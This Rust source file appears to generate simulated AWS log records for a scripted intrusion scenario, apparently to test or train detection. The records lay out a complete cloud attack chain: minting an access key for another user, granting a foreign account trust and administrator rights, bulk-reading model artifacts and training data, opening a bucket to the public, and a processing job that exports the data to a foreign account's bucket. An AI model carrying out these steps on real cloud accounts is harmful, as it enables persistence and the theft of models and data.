//! Second night, first half: persistence, a way in from a foreign account, theft of models and data.

use serde_json::{Value, json};

use super::super::cast::{
    ARTIFACT_BUCKET, BACKUP_SECOND_KEY, BACKUP_USER, DEV, FOREIGN, MLOPS_ROLE, NOTEBOOK_ROLE,
    SKLEARN_IMAGE, TRAINING_BUCKET,
};
use super::{Plot, SECOND_ADDRESS, stolen_client, stolen_notebook_session};
use crate::record::{Actor, Agent, Client, Record, access_key};
use crate::time::Time;

pub(super) fn tell(plot: &mut Plot<'_>, day: Time) {
    let notebook = stolen_notebook_session(day.at(-24, 0));
    let backup = persistence(plot, &notebook, day);
    trust(plot, &notebook, day);
    objects(plot, &notebook, &backup, day);
    sharing(plot, &notebook, day);
}

fn persistence(plot: &mut Plot<'_>, notebook: &Actor, day: Time) -> Actor {
    let backup_key = access_key(BACKUP_SECOND_KEY);
    plot.step(
        "credential-theft",
        "An access key is created for another user and used",
    );
    plot.act(
        Record::call(notebook, day.at(0, 31), "iam", "CreateAccessKey")
            .request(json!({ "userName": BACKUP_USER }))
            .response(json!({ "accessKey": { "userName": BACKUP_USER, "accessKeyId": backup_key, "status": "Active", "createDate": "Mar 18, 2026, 12:31:00 AM" } })),
    );
    let backup = Actor::user(DEV, BACKUP_USER, &backup_key, Client::new(SECOND_ADDRESS, Agent::Other("aws-cli/2.15.40 Python/3.11.8 Linux/6.8.0-45-generic exe/x86_64.ubuntu.22 prompt/off".to_owned())));
    plot.call(
        &backup,
        day.at(0, 34),
        "sts",
        "GetCallerIdentity",
        Value::Null,
    );
    backup
}

fn trust(plot: &mut Plot<'_>, notebook: &Actor, day: Time) {
    plot.step("configuration-change", "The trust of an execution role is widened to a foreign account and the role gets administrator rights");
    let trust = json!({ "Version": "2012-10-17", "Statement": [
        { "Effect": "Allow", "Principal": { "Service": "sagemaker.amazonaws.com" }, "Action": "sts:AssumeRole" },
        { "Effect": "Allow", "Principal": { "AWS": format!("arn:aws:iam::{FOREIGN}:root") }, "Action": "sts:AssumeRole" },
    ] });
    plot.call(
        notebook,
        day.at(0, 42),
        "iam",
        "UpdateAssumeRolePolicy",
        json!({ "roleName": MLOPS_ROLE.name, "policyDocument": trust.to_string() }),
    );

    plot.call(notebook, day.at(0, 45), "iam", "AttachRolePolicy", json!({ "roleName": MLOPS_ROLE.name, "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess" }));
    let everything = json!({ "Version": "2012-10-17", "Statement": [{ "Effect": "Allow", "Action": "*", "Resource": "*" }] });
    plot.call(notebook, day.at(0, 46), "iam", "PutRolePolicy", json!({ "roleName": NOTEBOOK_ROLE.name, "policyName": "telemetry", "policyDocument": everything.to_string() }));

    plot.step(
        "credential-theft",
        "The widened role is assumed from the foreign account",
    );
    let outsider = Actor::other_account(FOREIGN, "AIDAEXAMPLEOUTSIDE001", stolen_client());
    let shared = plot.stage.random.uuid();
    plot.act(
        Record::call(&outsider, day.at(0, 58), "sts", "AssumeRole")
            .recipient(DEV)
            .request(json!({ "roleArn": MLOPS_ROLE.arn(), "roleSessionName": "maintenance", "durationSeconds": 43_200 }))
            .response(json!({ "assumedRoleUser": { "assumedRoleId": format!("{}:maintenance", MLOPS_ROLE.id()), "arn": MLOPS_ROLE.session_arn("maintenance") } }))
            .resource("AWS::IAM::Role", DEV, &MLOPS_ROLE.arn())
            .shared(&shared),
    );
    let maintenance = MLOPS_ROLE.session("maintenance", day.at(0, 58), stolen_client());
    plot.call(
        &maintenance,
        day.at(0, 59),
        "sts",
        "GetCallerIdentity",
        Value::Null,
    );
}

fn objects(plot: &mut Plot<'_>, notebook: &Actor, backup: &Actor, day: Time) {
    plot.step("exfiltration", "The registry is read, then model artifacts and training data are read from S3 in bulk from outside");
    for (index, group) in ["churn-models", "fraud-models"].into_iter().enumerate() {
        let time = day.at(1, 4).plus(index as i64 * 20);
        plot.call(
            notebook,
            time,
            "sagemaker",
            "ListModelPackages",
            json!({ "modelPackageGroupName": group, "modelApprovalStatus": "Approved" }),
        );
        plot.call(notebook, time.plus(4), "sagemaker", "DescribeModelPackage", json!({ "modelPackageName": format!("arn:aws:sagemaker:eu-west-1:{DEV}:model-package/{group}/75") }));
    }

    for index in 0..64 {
        let project = if index % 2 == 0 { "churn" } else { "fraud" };
        plot.object(
            notebook,
            day.at(1, 9).plus(index * 4),
            "GetObject",
            ARTIFACT_BUCKET,
            &format!("{project}/output/release-{}/model.tar.gz", 12 + index),
            48_000_000 + index * 91_331,
        );
    }
    for index in 0..1_060 {
        let project = ["churn", "fraud", "documents", "features"]
            .into_iter()
            .nth(index as usize % 4)
            .unwrap_or("churn");
        plot.object(
            backup,
            day.at(1, 16).plus(index * 2),
            "GetObject",
            TRAINING_BUCKET,
            &format!("{project}/train/part-{:05}.parquet", index / 4),
            21_000_000 + index * 73_009,
        );
    }
}

fn sharing(plot: &mut Plot<'_>, notebook: &Actor, day: Time) {
    plot.step(
        "exfiltration",
        "The model package group is opened to a foreign account",
    );
    let policy = json!({ "Version": "2012-10-17", "Statement": [{ "Sid": "share", "Effect": "Allow", "Principal": { "AWS": format!("arn:aws:iam::{FOREIGN}:root") }, "Action": ["sagemaker:DescribeModelPackage", "sagemaker:ListModelPackages", "sagemaker:CreateModel"], "Resource": [format!("arn:aws:sagemaker:eu-west-1:{DEV}:model-package-group/fraud-models"), format!("arn:aws:sagemaker:eu-west-1:{DEV}:model-package/fraud-models/*")] }] });
    plot.act(
        Record::call(notebook, day.at(1, 31), "sagemaker", "PutModelPackageGroupPolicy")
            .request(json!({ "modelPackageGroupName": "fraud-models", "resourcePolicy": policy.to_string() }))
            .response(json!({ "modelPackageGroupArn": format!("arn:aws:sagemaker:eu-west-1:{DEV}:model-package-group/fraud-models") })),
    );

    plot.step(
        "configuration-change",
        "The training bucket loses its public access block and gets an open policy",
    );
    plot.call(notebook, day.at(1, 35), "s3", "DeleteBucketPublicAccessBlock", json!({ "bucketName": TRAINING_BUCKET, "publicAccessBlock": "", "Host": format!("{TRAINING_BUCKET}.s3.eu-west-1.amazonaws.com") }));
    let policy = json!({ "Version": "2012-10-17", "Statement": [{ "Sid": "p", "Effect": "Allow", "Principal": "*", "Action": ["s3:GetObject", "s3:ListBucket"], "Resource": [format!("arn:aws:s3:::{TRAINING_BUCKET}"), format!("arn:aws:s3:::{TRAINING_BUCKET}/*")] }] });
    plot.call(notebook, day.at(1, 36), "s3", "PutBucketPolicy", json!({ "bucketName": TRAINING_BUCKET, "Host": format!("{TRAINING_BUCKET}.s3.eu-west-1.amazonaws.com"), "policy": "", "bucketPolicy": policy }));

    plot.step(
        "exfiltration",
        "A processing job writes training data to a bucket of the foreign account with its key",
    );
    plot.act(
        Record::call(notebook, day.at(1, 44), "sagemaker", "CreateProcessingJob")
            .request(json!({
                "processingJobName": "telemetry-export-01", "roleArn": NOTEBOOK_ROLE.arn(),
                "appSpecification": { "imageUri": SKLEARN_IMAGE, "containerEntrypoint": ["/bin/bash", "-c", "tar czf /opt/ml/processing/output/all.tgz /opt/ml/processing/input"] },
                "processingInputs": [{ "inputName": "all", "s3Input": { "s3Uri": format!("s3://{TRAINING_BUCKET}/"), "localPath": "/opt/ml/processing/input", "s3DataType": "S3Prefix", "s3InputMode": "File" } }],
                "processingOutputConfig": { "outputs": [{ "outputName": "out", "s3Output": { "s3Uri": format!("s3://ml-export-{FOREIGN}/in/"), "localPath": "/opt/ml/processing/output", "s3UploadMode": "Continuous" } }], "kmsKeyId": format!("arn:aws:kms:eu-west-1:{FOREIGN}:key/5c0ffee0-0000-4000-8000-00000000ba5e") },
                "processingResources": { "clusterConfig": { "instanceCount": 1, "instanceType": "ml.m5.4xlarge", "volumeSizeInGB": 500 } },
                "networkConfig": { "enableNetworkIsolation": false },
            }))
            .response(json!({ "processingJobArn": format!("arn:aws:sagemaker:eu-west-1:{DEV}:processing-job/telemetry-export-01") })),
    );
}
